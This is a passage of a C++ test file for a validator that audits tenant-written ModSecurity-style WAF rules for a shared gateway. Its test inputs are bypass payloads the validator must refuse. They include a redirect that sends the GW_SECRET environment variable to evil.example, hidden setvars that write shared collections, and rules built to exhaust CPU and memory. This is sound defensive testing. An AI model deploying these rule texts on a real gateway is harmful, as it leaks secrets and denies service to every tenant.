          "SecRule ARGS \"@rx a\" \"id:1,pass,chain\"\nSecRule ARGS|ENV \"@rx b\" \"\"", chained),
      "variable ENV is not allowed in tenant rules (line 2)");
  // A skipAfter whose marker the engine did not put after the rule, in the rule's phase.
  waf::ScanResult skipping = one_rule;
  skipping.rules[0].links[0].runtime = 1;
  skipping.markers = {"END"};
  expect_ok(waf::engine_check("SecRule ARGS \"@rx a\" \"id:1,pass,skipAfter:END\"\nSecMarker END",
                              skipping));
  waf::ScanResult skipping_on_line_2 = skipping;  // the rule below starts on line 2
  skipping_on_line_2.rules[0].links[0].line = 2;
  expect_bad(waf::engine_check("SecMarker END\nSecRule ARGS \"@rx a\" \"id:1,pass,skipAfter:END\"",
                               skipping_on_line_2),
             "could not be read unambiguously");
  expect_bad(waf::engine_check("SecRule ARGS \"@rx a\" \"id:1,pass,skipAfter:EN\"\nSecMarker END",
                               skipping),
             "could not be read unambiguously");
  // An update's skipAfter: the audit cannot tell where the rule it changes stands.
  waf::ScanResult updating = one_rule;
  updating.updates.actions = 1;
  expect_ok(waf::engine_check(
      "SecRule ARGS \"@rx a\" \"id:1,pass\"\nSecRuleUpdateActionById 1 \"log\"", updating));
  expect_ok(waf::engine_check(
      "SecRule ARGS \"@rx a\" \"id:1,pass\"\nSecRuleUpdateActionById 1 \"msg:'%{tx.a}'\"",
      updating));
  expect_bad(
      waf::engine_check(
          "SecRule ARGS \"@rx a\" \"id:1,pass\"\nSecRuleUpdateActionById 1 \"msg:'%{env.a}'\"",
          updating),
      "variable ENV is not allowed");
  // The transformations an update adds are compared by name too, as a rule's own are: an engine
  // that read other ones than the scan (as a comment line gave a rule 30 t:hexEncode) is caught
  // (review).
  waf::ScanResult transforming = one_rule;
  transforming.updates.transformations = {"lowercase", "trim"};
  expect_ok(waf::engine_check(
      "SecRule ARGS \"@rx a\" \"id:1,pass\"\nSecRuleUpdateActionById 1 \"t:trim,t:lowerCase\"",
      transforming));
  expect_bad(waf::engine_check("SecRule ARGS \"@rx a\" \"id:1,pass\"\n"
                               "SecRuleUpdateActionById 1 \"t:trim,t:hexEncode\"",
                               transforming),
             "could not be read unambiguously");
  // ENV among the targets an update added, as the engine built them.
  waf::ScanResult targeting = one_rule;
  targeting.updates.targets = 1;
  targeting.uncounted_line_breaks = 1;  // the one after the targets
  expect_ok(waf::engine_check(
      "SecRule ARGS \"@rx a\" \"id:1,pass\"\nSecRuleUpdateTargetById 1 \"ARGS:/^x/\"", targeting));
  expect_bad(waf::engine_check(
                 "SecRule ARGS \"@rx a\" \"id:1,pass\"\nSecRuleUpdateTargetById 1 ENV:GW_SECRET",
                 targeting),
             "variable ENV is not allowed");
  expect_bad(
      waf::engine_check(
          "SecRule ARGS \"@rx a\" \"id:1,pass\"\nSecRuleUpdateActionById 1 \"skipAfter:END\"",
          updating),
      "could not be read unambiguously");
  // A directive that reads on over line breaks moves the marker put after the text to an
  // earlier line: here the unquoted update's msg takes in two lines and a setvar on IP, with the
  // counts the scan of the same text with quoted updates gives.
  waf::ScanResult quoted_updates;
  REQUIRE_FALSE(waf::scan_directives(
      "SecRule ARGS \"@rx foo\" \"id:5,phase:1,pass,log,msg:'tenant A rule 5'\"\n"
      "SecRuleUpdateActionById 5 \"msg:x\"\nSecRuleUpdateActionById 5 \"msg:z\"\n"
      "#,setvar:ip.blocked=1\"",
      &quoted_updates));
  expect_bad(
      waf::engine_check("SecRule ARGS \"@rx foo\" \"id:5,phase:1,pass,log,msg:'tenant A rule 5'\"\n"
                        "SecRuleUpdateActionById 5 msg:x\nSecRuleUpdateActionById 5 msg:z\n"
                        "#,setvar:ip.blocked=1\"",
                        quoted_updates),
      "a directive runs on over a line break");
  // After SecRuleUpdateTargetById's targets the engine's line count misses the line break and
  // the blank lines that follow, which the scan counts for the check.
  for (const std::string text :
       {"SecRuleUpdateTargetById 1 ARGS", "SecRuleUpdateTargetById 1 ARGS\n",
        "SecRuleUpdateTargetById 1 ARGS \n \r\n\t\n", "SecRuleUpdateTargetById 1 ARGS\n#c\n\n",
        "SecRule ARGS \"@rx a\" \"id:1,pass\"\nSecRuleUpdateTargetById 1 ARGS\n"
        "SecRuleUpdateTargetById 1 \"ARGS\"\n",
        "SecRuleUpdateTargetById 1 ARGS\n\r\n\nSecRuleUpdateTargetById 2 ARGS\n"}) {
    CAPTURE(text);
    waf::ScanResult targets;
    REQUIRE_FALSE(waf::scan_directives(text, &targets));
    CHECK(targets.uncounted_line_breaks > 0);
    expect_ok(waf::engine_check(text, targets));
    --targets.uncounted_line_breaks;
    expect_bad(waf::engine_check(text, targets), "a directive runs on over a line break");
  }
  // The same scan result for the text it describes passes, and a marker the engine did not
  // build is refused as well.
  expect_ok(waf::engine_check("SecRule ARGS \"@rx a\" \"id:1,pass\"", one_rule));
  waf::ScanResult with_marker = one_rule;
  with_marker.markers = {"END"};
  expect_ok(waf::engine_check("SecRule ARGS \"@rx a\" \"id:1,pass\"\nSecMarker END", with_marker));
  expect_bad(waf::engine_check("SecRule ARGS \"@rx a\" \"id:1,pass\"", with_marker),
             "could not be read unambiguously");
}

// The general defence behind the scan: whatever the engine's lexer drops (characters no rule of
// its state matches) refuses the text, whatever the engine then built. The texts are bypasses of
// earlier scans, with the scan result those scans gave them (the rule and its counts agree).
TEST_CASE("waf_directives' audit refuses a text the engine's lexer dropped characters of") {
  waf::ScanResult setvar_rule;
  setvar_rule.rules = {{1, {waf::LinkActions{.line = 1, .variables = 1, .setvars = 1}}}};
  setvar_rule.directives = 1;
  expect_bad(waf::engine_check("SecRule ARGS \"  @rx\tz\"\t\"id:1,phase:2,pass,setvar:tx.b=1\"\n"
                               "#\t\"x y\"\t\"id:1,phase:2,pass,setvar:global.b=1\"",
                               setvar_rule),
             "(the engine skipped \"\tz\"\t\"id:1,phase:2,pass,setvar:tx.b=1\"...\")");
  expect_bad(waf::engine_check("SecRule ARGS \"@rx\tz\"\t\"id:1,phase:2,pass,setvar:tx.b=1\"\n"
                               "#\t\"x y\"\t\"id:1,phase:2,pass,setvar:global.b=1\"",
                               setvar_rule),
             "could not be read unambiguously");
  // The same rule as the scan reads it passes, and so does the next parse (the lexer's output
  // is put back).
  expect_ok(
      waf::engine_check("SecRule ARGS \"@rx z\" \"id:1,phase:2,pass,setvar:tx.b=1\"", setvar_rule));
  expect_ok(waf_directives("SecRule ARGS \"@rx z\" \"id:1,phase:2,pass,setvar:tx.b=1\""));
  // One line continuation after SecAction or a SecRule's variables is read alike (the engine
  // does not count its line break); with a second one there the engine drops the text between,
  // or reads the operator on (below). The scan refuses a continued line of blanks; the audit
  // stands behind it.
  expect_bad(waf_directives("SecAction \\\n \\\n \"id:1,phase:1,pass\""),
             "must not continue a line that holds nothing but blanks (line 2)");
  expect_bad(waf_directives("SecRule ARGS \\\n \\\n \"@rx a\" \"id:1,phase:1,pass\""),
             "must not continue a line that holds nothing but blanks (line 2)");
  waf::ScanResult action_only;
  action_only.rules = {{1, {waf::LinkActions{.line = 1}}}};
  action_only.directives = 1;
  action_only.uncounted_line_breaks = 1;
  expect_bad(waf::engine_check("SecAction \\\n \\\n \"id:1,phase:1,pass\"", action_only),
             "(the engine skipped \"\\\n\")");
}

// After two line continuations with a line of blanks between them, the engine read the quoted
// operator up to the next blank, quotes and line breaks included, and took a comment line's text
// for the rule's actions; a last comment line made its line count come out as the scan's. The
// counts the audit compared were equal (one rule, id 1, 30 transformations), so 30 t:hexEncode,
// hidden behind 30 t:lowercase the scan read, were accepted: one request with one argument then
// took 37.5 s and 2.6 GB of the gateway every tenant shares (helper 39).
TEST_CASE("waf_directives: a comment line cannot give a rule its actions") {
  auto repeated = [](const std::string& action, int n) {
    std::string out;
    for (int i = 0; i < n; ++i) out += "," + action;
    return out;
  };
  const std::string text = "SecRule ARGS \\\n  \\\n  \"abc\"\t\"id:1,phase:1,pass,nolog" +
                           repeated("t:lowercase", 30) + "\"\n# \"id:1,phase:1,pass,nolog" +
                           repeated("t:hexEncode", 30) + "\"\n#SecAction a\\ b";
  expect_bad(waf_directives(text), "must not continue a line that holds nothing but blanks");
  // The audit alone, given what the scan read, refuses it too: the engine's operator holds the
  // line break it read on over, and its transformations are not the ones the scan read.
  waf::ScanResult scanned;
  scanned.rules = {{1, {waf::LinkActions{.line = 1, .variables = 1}}}};
  scanned.rules[0].links[0].transformations.assign(30, "lowercase");
  scanned.directives = 1;
  scanned.uncounted_line_breaks = 1;
  expect_bad(waf::engine_check(text, scanned), "could not be read unambiguously");
  // A comment that names SecAction holds no backslash.
  expect_bad(waf_directives("SecAction \"id:1,pass\"\n#SecAction a\\ b"),
             "must not put a backslash at the end of a comment, or in one that names SecRule");
  expect_ok(waf_directives("# blocks /admin\\.php\nSecAction \"id:1,pass\""));
  // The transformations are compared by name: the same rule as the scan reads it passes, one
  // with other transformations than the scan's does not.
  waf::ScanResult two;
  two.rules = {{1, {waf::LinkActions{.line = 1, .variables = 1}}}};
  two.rules[0].links[0].transformations = {"lowercase", "trim"};
  two.directives = 1;
  expect_ok(
      waf::engine_check("SecRule ARGS \"@rx a\" \"id:1,phase:1,pass,t:lowerCase,t:trim\"", two));
  expect_bad(
      waf::engine_check("SecRule ARGS \"@rx a\" \"id:1,phase:1,pass,t:hexEncode,t:trim\"", two),
      "could not be read unambiguously");
}

// expirevar's value, as the engine lexes it, runs on over the actions after it up to the last '='
// before a blank or a double quote, quoted or not. The scan counted the setvar it swallowed, so
// such a text was refused by the audit's counts, until a review put a second setvar, of a shared
// collection, inside a msg, which the engine then read as an action: the counts were equal, and a
// tenant's rule wrote GLOBAL, IP, SESSION, USER or RESOURCE. expirevar (and deprecatevar) act on
// the shared collections only, so they are refused.
// The engine's lexer reads a variable's name with more letters after it as that name and what
// follows, and a macro may hold several variables, whose values it joins: a review's fuzzing got
// 77 texts accepted that read the gateway's environment (ENV) that way. The redirect below sent
// the environment variable GW_SECRET to the client.
TEST_CASE("waf_directives refuses variables that are not exactly one of the engine's names") {
  const Bad bad[] = {
      {"SecRule ARGS \"@rx 1\" "
       "\"id:1,phase:1,redirect:https://evil.example/%{REMOTE_USERENV.GW_SECRET}\"",
       "unknown variable 'REMOTE_USERENV'"},
      {R"(SecRule ARGS "@rx 1" "id:1,phase:1,pass,msg:%{REQUEST_LINEENV.GW_SECRET}")",
       "unknown variable 'REQUEST_LINEENV'"},
      {R"(SecRule ARGS "@rx %{REMOTE_USERENV.GW_SECRET}" "id:1,phase:1,pass")", "unknown variable"},
      {R"(SecRule ARGS "@rx 1" "id:1,phase:1,pass,logdata:'%{TIMEENV.GW_SECRET}'")",
       "unknown variable 'TIMEENV'"},
      {R"(SecRule ARGS "@rx 1" "id:1,phase:1,pass,tag:%{QUERY_STRINGEnv}")",
       "unknown variable 'QUERY_STRINGEnv'"},
      {R"(SecRule ARGS "@rx 1" "id:1,phase:1,pass,msg:%{Env:GW_SECRET}")", "variable ENV"},
      {R"(SecRule REQUEST_LINEENV:GW_SECRET "TOP" "id:1,phase:1,deny,status:403")",
       "unknown variable 'REQUEST_LINEENV'"},
      {R"(SecRule FILESENV "a-b" "id:1,phase:1,deny")", "unknown variable 'FILESENV'"},
      {R"(SecRule ARGS|TIMEEnv "a" "id:1,phase:1,deny")", "unknown variable 'TIMEEnv'"},
      {"SecRule ARGS \"@rx a\" \"id:1,pass\"\nSecRuleUpdateTargetById 1 REQUEST_LINEENV",
       "unknown variable"},
      {R"(SecRule NO_SUCH_THING "@rx a" "id:1,pass")", "unknown variable 'NO_SUCH_THING'"},
      {R"(SecAction "id:1,pass,msg:%{nosuch.x}")", "unknown variable 'nosuch'"},
      // The engine's lexer ends a plain key at '}' and took the regex /a}/ as the key, then ENV
      // as a variable of its own: the environment variable began the rule's regex (was accepted).
      {R"(SecRule ARGS:/a}/ENV:GW_SECRET "TOP" "id:1,phase:1,deny")", "a variable's key may hold"},
      {R"(SecRule REQUEST_HEADERS:/x-probe}?/ENV:GW_SECRET "" "id:1,phase:1,deny,status:403")",
       "a variable's key may hold"},
      {R"(SecRule REQUEST_HEADERS:/x}?/REQUEST_BASENAMEENV:GW_SECRET "]" "id:1,phase:1,deny")",
       "a variable's key may hold"},
      {R"(SecRule ARGS:a=ENV:X "@rx a" "id:1,phase:1,deny")", "a variable's key may hold"},
      {R"(SecRule ARGS:/a}/b/ "@rx a" "id:1,phase:1,deny")", "a variable's key may hold"},
      {"SecRule ARGS \"@rx a\" \"id:1,pass\"\nSecRuleUpdateTargetById 1 ARGS:/a}/ENV:X",
       "must put SecRuleUpdateTargetById's targets in double quotes"},
      {"SecRule ARGS \"@rx a\" \"id:1,pass\"\nSecRuleUpdateTargetById 1 \"ARGS:/a}/ENV:X\"",
       "a variable's key may hold"},
      // A regex key runs on over ',' to the last '/' before a blank, '|' or '=' for the engine:
      // the scan saw ARGS:/a and TX:/ENV:GW_SECRET, the engine the key /a,TX:/ and ENV:GW_SECRET
      // (the environment variable then began the rule's regex; were accepted).
      {R"(SecRule ARGS:/a,TX:/ENV:GW_SECRET "TOP" "id:1,phase:1,deny,status:403")",
       "a regex key /.../ must end its variable"},
      {R"(SecRule ARGS:/a[,TX:]*/ENV:GW_SECRET "$" "id:1,phase:1,deny,status:403,msg:leak")",
       "a regex key /.../ must end its variable"},
      {R"(SecRule REQUEST_HEADERS:/x,ARGS:/ENV:GW_SECRET "$" "id:1,phase:1,deny,status:403")",
       "a regex key /.../ must end its variable"},
      {R"(SecRule ARGS:/a[,TX:]*/REQUEST_METHODENV:GW_SECRET "]" "id:1,phase:1,deny")",
       "a regex key /.../ must end its variable"},
      {R"(SecRule ARGS:/a/,TX:/b/ "@rx a" "id:1,phase:1,deny")",
       "a regex key /.../ must end its variable"},
      // Single-quoted, the key runs on over '|' as well.
      {R"(SecRule ARGS:'/a|TX:/'ENV:GW_SECRET "TOP" "id:1,phase:1,deny,status:403")",
       "must not put single quotes in variables"},
      // An update's unquoted targets end the line, and the engine read the regex key on over
      // the line break into the comment line, to ENV:GW_SECRET; the redirect then sent the
      // environment variable to the client (was accepted).
      {"SecRule ARGS:zz \"@rx ^(.+)$\" \"id:1,phase:1,deny,status:302,"
       "redirect:'http://e.example/%{MATCHED_VAR}'\"\nSecRuleUpdateTargetById 1 ARGS:/a,TX\n"
       "#/|ENV:GW_SECRET #x",
       "must put SecRuleUpdateTargetById's targets in double quotes when a key is a regex"},
      {"SecRule ARGS \"@rx .\" \"id:1,phase:1,pass\"\nSecRuleUpdateTargetById 1 ARGS:/a,TX\n"
       "#/|TX SecRuleRemoveById 99",
       "must put SecRuleUpdateTargetById's targets in double quotes"},
      // A regex key that does not compile: the engine loaded it, and the first request that
      // read the variable crashed the engine (was accepted).
      {R"(SecRule ARGS:/(/ "@rx ." "id:1,phase:1,pass")",
       "needs a regular expression that compiles, not ( (missing closing parenthesis"},
      {R"(SecRule ARGS|!ARGS:/[a/ "@rx ." "id:1,phase:1,pass")",
       "needs a regular expression that compiles"},
      {"SecRule ARGS \"@rx .\" \"id:1,phase:1,pass\"\nSecRuleUpdateTargetById 1 \"ARGS:/(/\"",
       "needs a regular expression that compiles"},
      // @verifySSN, @verifyCPF and @verifySVNR crashed the engine on a regex that did not
      // compile (a macro is left out when it compiles it), and took time growing with the square
      // of a value's length on any regex (28 s on a 1 MB argument): refused. So is @verifyCC,
      // which a later review found taking the same time (17.4 s on a 320 KB argument); its
      // regex had to compile, without macros (both rows were refused for that before).
      {R"(SecRule ARGS "@verifySSN (" "id:1,phase:1,pass")", "operator @verifySSN is not allowed"},
      {R"(SecRule ARGS "@verifyCPF x" "id:1,phase:1,pass")", "operator @verifyCPF is not allowed"},
      {R"(SecRule ARGS "@verifySVNR x" "id:1,phase:1,pass")",
       "operator @verifySVNR is not allowed"},
      {R"(SecRule ARGS "@verifyCC (" "id:1,phase:1,pass")", "operator @verifyCC is not allowed"},
      {R"(SecRule ARGS "@verifyCC (%{tx.x}" "id:1,phase:1,pass")", "operator @verifyCC"},
      {R"(SecRule ARGS "@verifyCC \d{13,16}" "id:7,pass")", "operator @verifyCC"},
      // @rxGlobal crashed on a regex that did not compile, a macro's included
      // (`%{ARGS.a}` and a=`(`), and one that can match empty text took 6.3 s on 120 KB.
      {R"(SecRule ARGS "@rxGlobal (" "id:1,phase:2,pass")", "operator @rxGlobal is not allowed"},
      {R"(SecRule ARGS "@rxGlobal %{ARGS.a}" "id:1,phase:1,pass")", "operator @rxGlobal"},
      {R"(SecRule ARGS "@rxGlobal $" "id:1,phase:1,pass,nolog")", "operator @rxGlobal"},
      // An XML key is an XPath expression evaluated over the body at every request:
      // XML://*//*//*//*//* took 50 s on an 888-byte body (all were accepted).
      {R"(SecRule XML://*//*//*//*//* "@rx z" "id:1,phase:2,pass")",
       "may read XML only whole (XML), as its root element (XML:/*) or its attributes"},
      {R"(SecRule ARGS|XML:/a/b "@rx z" "id:1,phase:2,pass")", "may read XML only whole"},
      {R"(SecRule &xml://c "@eq 0" "id:1,phase:2,pass")", "may read XML only whole"},
      {R"(SecRule XML:/* "@rx z" "id:1,phase:2,pass,chain")"
       "\n"
       R"(SecRule XML://* "@rx z" "t:none")",
       "may read XML only whole"},
      {"SecRule ARGS \"@rx .\" \"id:1,phase:1,pass\"\nSecRuleUpdateTargetById 1 \"XML://*\"",
       "may read XML only whole"},
      // Nothing bounds a multipart part's headers: ten rules reading them took 19.3 s on 100
      // parts of 68 headers, one naming them 499 times ended the engine (all were accepted).
      {R"(SecRule MULTIPART_PART_HEADERS "@rx ." "id:1,phase:2,pass")",
       "may read MULTIPART_PART_HEADERS only as a count (&MULTIPART_PART_HEADERS): nothing in the "
       "WAF engine bounds a multipart part's headers, and a rule reading them takes seconds on a "
       "50 KB body (line 1)"},
      {R"(SecRule ARGS|multipart_part_headers:f0 "@rx ." "id:1,phase:2,pass")",
       "may read MULTIPART_PART_HEADERS only as a count"},
      {R"(SecRule &ARGS "@gt 0" "id:1,phase:2,pass,chain")"
       "\n"
       R"(SecRule MULTIPART_PART_HEADERS:/^f/ "@rx ." "t:none")",
       "may read MULTIPART_PART_HEADERS only as a count"},
      {"SecRule ARGS \"@rx .\" \"id:1,phase:2,pass\"\nSecRuleUpdateTargetById 1 "
       "\"MULTIPART_PART_HEADERS\"",
       "may read MULTIPART_PART_HEADERS only as a count"},
      // A count builds the whole collection too: 1,000 took 5.0 s on 62 KB, and so does a macro's
      // every expansion: 490 rules `@streq %{MULTIPART_PART_HEADERS}` 4.4 s (all were accepted).
      {"SecRule " + repeat("&MULTIPART_PART_HEADERS", 9, "|") + " \"@ge 0\" \"id:1,phase:2,pass\"",
       "may name MULTIPART_PART_HEADERS at most 8 times in all, but in exclusions, and only to "
       "count it: each count builds the list of every header line of a multipart body's parts, "
       "which nothing in the WAF engine bounds (line 1)"},
      {"SecRule " + repeat("&MULTIPART_PART_HEADERS", 8, "|") +
           " \"@ge 0\" \"id:1,phase:2,pass\"\nSecRule &ARGS \"@ge 0\" \"id:2,phase:2,pass\"\n"
           "SecRuleUpdateTargetById 2 \"&multipart_part_headers:/^f/\"",
       "may name MULTIPART_PART_HEADERS at most 8 times in all, but in exclusions, and only to "
       "count it: each count builds the list of every header line of a multipart body's parts, "
       "which nothing in the WAF engine bounds (line 3)"},
      {R"(SecRule REQUEST_METHOD "@streq %{MULTIPART_PART_HEADERS}" "id:1,phase:2,pass")",
       "must not use the macro %{MULTIPART_PART_HEADERS}: each expansion builds the list of every "
       "header line of a multipart body's parts, which nothing in the WAF engine bounds (line 1)"},
      {R"(SecAction "id:1,phase:2,pass,msg:'%{multipart_part_headers.f0}'")",
       "must not use the macro %{multipart_part_headers.f0}"},
      // A setvar copies its text once per matched variable: 60,000 bytes appended took 69 s on
      // 1,000 arguments, and named by a macro 499 MB on 8,000 (both were accepted).
      {"SecRule ARGS \"@unconditionalMatch\" \"id:1,phase:2,pass,nolog,setvar:tx.a=%{tx.a}" +
           std::string(2048 - 11, 'x') + "\"",
       "setvars may hold at most 2048 bytes of text in all (names and values, as written)"},
      {"SecRule ARGS \"@rx a\" \"id:1,phase:2,pass,setvar:'tx.%{MATCHED_VAR_NAME}=" +
           std::string(1000, 'x') +
           "'\"\nSecRule ARGS \"@rx b\" \"id:2,phase:2,pass,"
           "setvar:'tx.b=%{MATCHED_VAR}" +
           std::string(1000, 'y') +
           "'\"\nSecRuleUpdateActionById 2 "
           "\"setvar:tx.c=" +
           std::string(40, 'z') + "\"",
       "setvars may hold at most 2048 bytes of text in all (names and values, as written): a "
       "setvar runs once per matched variable and may copy its text each time (line 3)"},
      // A setvar named by a macro keeps its value for each matched variable: a client's 64,000
      // bytes for each of 7,500 arguments took 499 MB (all were accepted).
      {R"(SecRule ARGS_NAMES "@rx ^b" "id:12,phase:2,pass,nolog,setvar:tx.%{MATCHED_VAR}=%{ARGS.a}")",
       "setvars whose name and value both hold macros may use only %{MATCHED_VAR} and "
       "%{MATCHED_VAR_NAME} (and %{RULE...} in the name): the WAF engine keeps the value once for "
       "each name the macros make (line 1)"},
      {"SecRule ARGS:a \"@rx ^\" \"id:11,phase:2,pass,nolog,setvar:tx.a=%{MATCHED_VAR}\"\n"
       "SecRule ARGS_NAMES \"@rx ^b\" "
       "\"id:12,phase:2,pass,nolog,setvar:tx.%{MATCHED_VAR}=%{tx.a}\"",
       "setvars whose name and value both hold macros may use only %{MATCHED_VAR} and "
       "%{MATCHED_VAR_NAME} (and %{RULE...} in the name): the WAF engine keeps the value once for "
       "each name the macros make (line 2)"},
      // A name counting the matches: a rule reading REQUEST_BODY 500 times kept 500 copies.
      {"SecRule REQUEST_BODY|REQUEST_BODY|REQUEST_BODY \"@rx ^\" "
       "\"id:2,phase:2,pass,nolog,setvar:tx.n=+1,setvar:tx.v%{tx.n}=%{MATCHED_VAR}\"",
       "setvars whose name and value both hold macros may use only"},
      {R"(SecRule ARGS "@rx ^" "id:2,phase:2,pass,setvar:tx.%{TIME}%{MATCHED_VAR_NAME}=%{MATCHED_VAR}")",
       "setvars whose name and value both hold macros may use only"},
      // A capture group that did not take part in a match keeps an earlier rule's value.
      {R"x(SecRule ARGS_NAMES "@rx ^b|(x)" "id:1,phase:2,pass,capture,)x"
       R"x(setvar:'tx.p_%{MATCHED_VAR_NAME}=.%{TX.1}'")x",
       "setvars whose name and value both hold macros may use only"},
      {"SecRule ARGS \"@rx .\" \"id:1,phase:1,pass\"\nSecRuleUpdateActionById 1 "
       "\"setvar:tx.%{MATCHED_VAR_NAME}=x%{REQUEST_URI}\"",
       "setvars whose name and value both hold macros may use only"},
      // A setvar value of two copies doubled at every run: 2 GB in 5 s on 40 arguments.
      {R"(SecRule ARGS "@unconditionalMatch" "id:1,phase:1,pass,nolog,setvar:tx.e=%{TX.e}%{TX.e}x")",
       "setvar values may hold at most one macro"},
      {R"(SecRule TX:e "@rx ." "id:1,phase:1,pass,setvar:'tx.e=%{MATCHED_VAR}-%{MATCHED_VAR}'")",
       "setvar values may hold at most one macro"},
  };
  for (const auto& r : bad) {
    CAPTURE(r.in);
    expect_bad(waf_directives(r.in), r.why);
  }
  const Ok ok[] = {
      {R"(SecRule REQUEST_HEADERS:User-Agent|!REQUEST_HEADERS:Referer|&TX:x|XML:/* "@rx a" )"
       R"("id:1,pass,msg:'%{REQUEST_HEADERS.User-Agent} %{rule.id} %{tx.a_b-c} %{TX:0}'")"},
      {R"(SecRule TIME_HOUR|MULTIPART_STRICT_ERROR|REQBODY_ERROR|remote_addr "@rx a" )"
       R"("id:2,pass,logdata:'%{MATCHED_VAR_NAME}=%{matched_var}'")"},
      // A setvar named by a macro, its value the matched variable's own value or name.
      {R"(SecRule ARGS "@rx a" "id:5,phase:2,pass,setvar:'tx.%{rule.id}-%{MATCHED_VAR_NAME}=%{matched_var}',setvar:tx.n_%{MATCHED_VAR}=x%{MATCHED_VAR_NAME}y,setvar:tx.%{MATCHED_VAR}=1,setvar:tx.v%{tx.n}=1")"},
      // 2048 bytes of setvar text in all.
      {"SecRule ARGS \"@rx a\" \"id:4,phase:2,pass,setvar:tx.a=%{tx.0}" +
       std::string(1024 - 12, 'x') + ",setvar:'tx.b=" + std::string(1024 - 5, 'y') + "'\""},
      // XML whole, its root element and its attributes (what the Core Rule Set reads), and an
      // exclusion of any key (compared by name, not evaluated).
      {R"(SecRule XML|XML:/*|xml://@*|&XML:/*|!XML://a//b "@rx a" "id:3,phase:2,pass")"},
      // A count of a multipart part's headers, as the Core Rule Set's 922100 and 922140 read
      // them, and an exclusion.
      {R"(SecRule &MULTIPART_PART_HEADERS:_charset_|&multipart_part_headers|ARGS|)"
       R"(!MULTIPART_PART_HEADERS:f0 "!@eq 0" "id:6,phase:2,pass")"},
      // Eight counts in all; exclusions are compared by name and not counted.
      {"SecRule " + repeat("&MULTIPART_PART_HEADERS", 8, "|") + "|ARGS|" +
       repeat("!MULTIPART_PART_HEADERS:f", 20, "|") + " \"@ge 0\" \"id:7,phase:2,pass\""},
      // Keys may hold anything, ENV included: the engine reads them as keys.
      {R"(SecRule ARGS:ENV|TX:myENV "@rx a" "id:3,pass,msg:'%{tx.ENV} %{ARGS:aENV}'")"},
      // A regex key may hold '}' when it is the whole key.
      {R"(SecRule ARGS:/^a{2}$/|REQUEST_COOKIES:/__utm/|ARGS:/a}ENV/ "@rx a" "id:4,pass")"},
      // One macro in a setvar's value, and macros in its name, as the Core Rule Set writes them.
      {"SecRule ARGS \"@rx a\" \"id:8,pass,setvar:'tx.anomaly_score=+%{tx.critical_anomaly_score}',"
       "setvar:'tx.%{rule.id}-%{MATCHED_VAR_NAME}=%{MATCHED_VAR}'\""},
      // A plain key may hold '/': the engine reads the longer plain key.
      {R"(SecRule ARGS:/a/b|XML:/*|ARGS:a/b,ARGS:/x/ "@rx a" "id:5,pass")"},
  };
  for (const auto& r : ok) {
    CAPTURE(r.in);
    expect_ok(waf_directives(r.in));
  }
}

TEST_CASE("waf_directives refuses expirevar, whose value the engine reads over later actions") {
  for (const std::string text : {
           "SecRule ARGS \"@rx a\" \"id:1,pass,expirevar:tx.a=1,setvar:tx.b=2\"",
           "SecAction \"id:1,phase:1,pass,nolog,expirevar:tx.a,setvar:tx.b=1,"
           "msg:'x=1, setvar:global.maintenance=1'\"",
           "SecAction \"id:1,phase:1,pass,nolog,expirevar:tx.a,setvar:tx.b=1,tag:q,"
           "msg:'x=1, setvar:global.maintenance=on, tag:z'\"",
           "SecAction \"id:1,phase:1,pass,nolog,expirevar:'tx.a=1',setvar:tx.b=1,"
           "msg:'x=1, setvar:ip.blocked=1'\"",
           "SecAction \"id:1,phase:1,pass\"\nSecRuleUpdateActionById 1 "
           "\"expirevar:tx.a,setvar:tx.b=1,msg:'x=1, setvar:global.y=1, tag:z'\"",
           "SecRule ARGS \"@rx a\" \"id:1,pass,chain\"\n  SecRule ARGS \"@rx b\" "
           "\"expirevar:tx.a,setvar:tx.b=1,msg:'x=1, setvar:session.y=1'\"",
       }) {
    CAPTURE(text);
    expect_bad(waf_directives(text), "action expirevar (it acts on shared collections only");
  }
}

// After `tx.` the engine reads a setvar name in slashes as a regex running on to a later '/'
// followed by a comma, blank or '|', commas and quotes included: a review's fuzzing got 59 texts
// accepted whose msg, logdata, ver, severity, redirect or accuracy hid a setvar of GLOBAL, IP,
// SESSION, USER or RESOURCE, each counted alike by the scan and the engine.
TEST_CASE("waf_directives refuses setvar names the engine reads as a regex") {
  for (const std::string text : {
           "SecAction \"id:1,phase:1,pass,nolog,setvar:tx./,setvar:tx.b,"
           "msg:'/,setvar:ip.blocked=1,msg:z'\"",
           "SecAction \"id:2,phase:1,pass,nolog,setvar:tx./a,setvar:tx.b,"
           "msg:'q/,setvar:global.maintenance=1,msg:z'\"",
           "SecAction \"id:5,phase:1,pass,nolog\"\nSecRuleUpdateActionById 5 "
           "\"setvar:tx./a,setvar:tx.b,msg:'q/,setvar:user.u=1,msg:z'\"",
           "SecRule REQUEST_URI \"@contains a\" \"id:9,phase:1,pass,nolog,chain\"\n"
           "SecRule REQUEST_METHOD \"@streq POST\" "
           "\"setvar:tx./a,setvar:tx.b,logdata:'q/,setvar:resource.r=1,logdata:z'\"",
           "SecAction \"id:1,phase:1,pass,nolog,setvar:TX:/a,setvar:tx.k,"
           "logdata:'q/,setvar:global.z=+1,logdata:z',status:403,capture\"",
           "SecAction \"id:1,pass,setvar:!tx./a,setvar:tx.b,msg:'q/,setvar:!session.s,msg:z'\"",
           "SecAction \"id:1,pass,setvar:'tx./a=1',msg:'q/,setvar:ip.x=1,msg:z'\"",
       }) {
    CAPTURE(text);
    expect_bad(waf_directives(text), "setvar names may hold only letters, digits");
  }
  for (const char* name : {"tx.a|b", "tx.a b", "tx.a'b", "tx.", "tx.a/b=1"}) {
    CAPTURE(name);
    CHECK(waf_directives(std::string("SecAction \"id:1,pass,setvar:'") + name + "'\"").has_value());
  }
  expect_ok(waf_directives(
      "SecAction \"id:1,pass,setvar:tx.a_b-c.d=1,setvar:'tx.%{rule.id}-x=%{MATCHED_VAR}',"
      "setvar:!tx.old,setvar:TX:n=+1\""));
}

// The defence behind the scan and the audit's counts: each setvar the engine built runs once on a
// transaction whose shared collections are write traps. The texts are the two escapes of earlier
// scans, given the scan results of their benign twins (what those scans read them as): the rule,
// its line and every count agree with the engine's, and only the traps refuse them.
TEST_CASE(
    "waf_directives' audit runs every setvar the engine built: one of a shared collection "
    "refuses the text") {
  auto twin_scan = [](const std::string& twin) {
    waf::ScanResult scan;
    REQUIRE_FALSE(waf::scan_directives(twin, &scan).has_value());
    return scan;
  };
  const std::pair<std::string, std::string> escapes[] = {
      {"SecAction \"id:2,phase:1,pass,nolog,setvar:tx./a,setvar:tx.b,"
       "msg:'q/,setvar:global.maintenance=1,msg:z'\"",
